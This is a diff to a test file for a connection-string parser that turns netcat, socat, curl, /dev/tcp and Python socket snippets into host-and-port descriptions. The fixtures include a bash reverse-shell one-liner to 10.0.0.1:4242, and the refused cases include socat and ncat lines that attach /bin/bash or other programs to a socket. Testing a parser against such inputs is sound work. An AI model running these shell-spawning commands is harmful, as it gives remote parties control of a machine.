@@ -54,6 +54,7 @@ const urls: Examples = [
   ['http://0.0.0.0:8000/', client('127.0.0.1:8000')],
   ['<http://example.com:/>', client('example.com:80')],
   ['ws://localhost/chat', client('localhost:80')],
+  ['postgres://localhost/db?sslmode=disable', client('localhost:5432')],
   ['redis://user:p@ss@localhost/0', client('localhost:6379')],
   ['mqtt://broker', client('broker:1883')],
   ['telnet://host', client('host:23')],
@@ -152,7 +153,42 @@ const shells: Examples = [
   ['nc \\\n  host 9000\nhello', client('host:9000')],
 ];
 
+const code: Examples = [
+  ['/dev/tcp/example.com/80', client('example.com:80')],
+  ['/dev/udp/127.0.0.1/53', udp('127.0.0.1:0', { remote: '127.0.0.1:53' })],
+  ['exec 3<>/dev/tcp/example.com/80', client('example.com:80')],
+  ['exec 3<>/dev/tcp/::1/9000', client('[::1]:9000')],
+  ['echo hello > /dev/tcp/localhost/9000', client('localhost:9000')],
+  ['cat </dev/tcp/mail.example/smtp', client('mail.example:25')],
+  ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', client('10.0.0.1:4242')],
+  ["timeout 1 bash -c '</dev/tcp/db/5432' && echo up", client('db:5432')],
+  ['(echo > "/dev/tcp/127.0.0.1/22") >/dev/null 2>&1', client('127.0.0.1:22')],
+  ['echo -n x >/dev/udp/10.0.0.5/8125', udp('0.0.0.0:0', { remote: '10.0.0.5:8125' })],
+  ['("example.com", 80)', client('example.com:80')],
+  ["('127.0.0.1', 9000)", client('127.0.0.1:9000')],
+  ["('::1', 9000, 0, 0)", client('[::1]:9000')],
+  ["s.connect(('localhost', 12345))", client('localhost:12345')],
+  ['s = socket.create_connection(("example.com", 80), timeout=5)', client('example.com:80')],
+  ["sock.bind(('', 9000))", server(':9000')],
+  ['server.bind(("0.0.0.0", 9000))', server('0.0.0.0:9000')],
+  ['socket.create_server(("localhost", 9000))', server('localhost:9000')],
+  ['sock.sendto(b"hi", ("127.0.0.1", 20001))', udp('127.0.0.1:0', { remote: '127.0.0.1:20001' })],
+  ["u = socket(AF_INET, SOCK_DGRAM); u.bind(('', 20001))", udp(':20001')],
+  ['example.com 80', client('example.com:80')],
+  ['localhost 9000', client('localhost:9000')],
+  ['::1\t9000', client('[::1]:9000')],
+];
+
+const curl: Examples = [
+  ['curl telnet://example.com:7', client('example.com:7')],
+  ['$ curl -v "telnet://localhost:9000"', client('localhost:9000')],
+  ['curl -s -X POST -d "a: b" http://localhost:8080/x?y', client('localhost:8080')],
+  ["curl -H 'Host: x' localhost:8080/path", client('localhost:8080')],
+];
+
 const groups = {
+  code,
+  'command lines of curl': curl,
   addresses,
   URLs: urls,
   'command lines of netcat': netcat,
@@ -175,16 +211,31 @@ describe('parseConnection', () => {
   }
 
   const refused: [string, RegExp][] = [
-    ['', /^"" is not understood: write host:port, .* nc, ncat, telnet or socat$/],
+    ['', /^"" is not understood: write host:port, .* nc, ncat, telnet, socat or curl$/],
     ['hello world', /not understood/],
     ['localhost', /not understood/],
     ['say nc: 80', /not understood/],
+    ['port 9000', /not understood/],
+    ['/dev/tcp/example.com/daytime', /must be a number/],
+    ['exec 3<>/dev/tcp/$host/80', /no host name/],
+    ['/dev/udp/host/0', /1 to 65535/],
+    ['("host", 70000)', /must be 0 to 65535/],
+    ['curl', /URL is missing/],
+    ['curl https://host', /TLS/],
+    ['curl dict://host:2628/show', /not understood/],
     ['x'.repeat(100), /^"x{60}…" is not understood/],
     ['host:70000', /must be 0 to 65535/],
     ['host:0', /1 to 65535/],
-    ['foo://host:80', /not understood/],
-    ['https://host', /^"https:\/\/" begins with TLS, which is not supported yet$/],
-    ['tls://host:443', /TLS/],
+    ['foo://host:80', /^"foo:\/\/host:80": foo:\/\/ isn’t supported; Portside opens tcp:\/\/, udp:\/\/ and unix:/],
+    ['https://host', /^"https:\/\/host": https:\/\/ needs TLS, which isn’t supported yet$/],
+    ['tls://host:443', /tls:\/\/ needs TLS/],
+    ['openssl:host:443', /openssl: needs TLS/],
+    ['sctp:host:9', /sctp: isn’t supported/],
+    ['tcp:host:80', /write tcp:\/\//],
+    ['openssl s_client -connect host:443', /^openssl speaks TLS/],
+    ['gnutls-cli -p 443 host', /^gnutls-cli speaks TLS/],
+    ['postgres://host/db?sslmode=verify-full', /asks for TLS/],
+    ['mongodb://host/db?w=1&tls=true', /asks for TLS/],
     ['tcp://host', /port is missing/],
     ['udp://host', /port is missing/],
     ['http:///path', /host is missing/],
@@ -207,6 +258,9 @@ describe('parseConnection', () => {
     ['ncat -lkc cat 9000', /-c: Portside runs no programs/],
     ['ncat --sh-exec "cat" -l 9000', /--sh-exec: Portside runs no programs/],
     ['ncat --ssl host 443', /--ssl: TLS/],
+    ['ncat --ssl-verify host 443', /--ssl-verify: TLS/],
+    ['ncat -l --ssl-cert=a.pem 443', /--ssl-cert: TLS/],
+    ['ncat --vsock 2 9', /TCP and UDP only/],
     ['ncat --sctp host 443', /TCP and UDP only/],
     ['nc tcp //x:80', /no host name/],
     ['nc unix /x', /no host name/],
@@ -220,6 +274,11 @@ describe('parseConnection', () => {
     ['socat TCP:a:1 TCP-LISTEN:2', /relays from "TCP:a:1" to "TCP-LISTEN:2"/],
     ['socat - OPENSSL:host:443', /TLS/],
     ['socat OPENSSL:host:443 -', /TLS/],
+    ['socat - OPENSSL-LISTEN:443,cert=a.pem', /TLS/],
+    ['socat SSL-L:443 EXEC:cat', /TLS/],
+    ['socat - DTLS-CONNECT:host:443', /TLS/],
+    ['socat - SCTP-CONNECT:host:9', /^neither/],
+    ['socat - VSOCK-CONNECT:2:9', /^neither/],
     ['socat - UNIX-SENDTO:/tmp/s', /^neither/],
     ['socat - TCP-SENDTO:h:1', /^neither/],
     ['socat TCP-LISTEN:9000 EXEC:/bin/bash', /"EXEC:\/bin\/bash": Portside runs no programs/],
@@ -275,7 +334,10 @@ describe('parseConnection', () => {
   it('takes time in proportion to the text', function () {
     // If it grew with the square of the length, hours would not do.
     this.timeout(120_000);
-    for (const part of ['"', "'", '\\', '$ ', ' ', '[', 'a:', '# ', '> ', '"\\', 'nc ', 'x#']) {
+    for (const part of [
+      ...['"', "'", '\\', '$ ', ' ', '[', 'a:', '# ', '> ', '"\\', 'nc ', 'x#'],
+      ...['("', 'bind(', '/dev/tcp/', ':1 '],
+    ]) {
       givesAnswer(part.repeat(100_000));
       givesAnswer(`nc ${part.repeat(100_000)}`);
       givesAnswer(`socat ${part.repeat(100_000)}`);
